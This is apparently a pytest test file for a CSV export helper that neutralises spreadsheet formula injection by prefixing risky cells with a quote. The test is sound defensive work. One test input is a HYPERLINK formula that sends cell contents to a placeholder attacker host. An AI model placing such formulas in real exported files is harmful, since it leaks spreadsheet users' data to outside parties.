"""The CSV cell rule every served CSV uses (shared/spreadsheets.py)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from shared.spreadsheets import csv_cell


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1", "'\0=1"),
        ("-", "'-"),
        ("- 1500", "'- 1500"),
    ],
)
def test_text_a_spreadsheet_would_read_as_a_formula_is_prefixed_with_a_quote(
    text: str, written: str
) -> None:
    assert csv_cell(text) == written


@pytest.mark.parametrize("value", ["Undeclared interest", "2026-10-01", "a=b", "", "'=quoted"])
def test_other_text_is_written_as_it_is(value: str) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-1500, 0, 143_288, Decimal("-12.50"), -0.5, None, True])
def test_numbers_and_empty_cells_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) is value


@pytest.mark.parametrize("text", ["-1500", "-12.50", "1500"])
def test_a_negative_amount_already_written_as_text_stays_a_number(text: str) -> None:
    assert csv_cell(text) == text


def test_a_row_through_the_csv_writer_reads_back_as_text_and_a_number() -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell('=HYPERLINK("x")'), csv_cell(-1500)])
    assert out.getvalue() == '"\'=HYPERLINK(""x"")",-1500\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ['\'=HYPERLINK("x")', "-1500"]
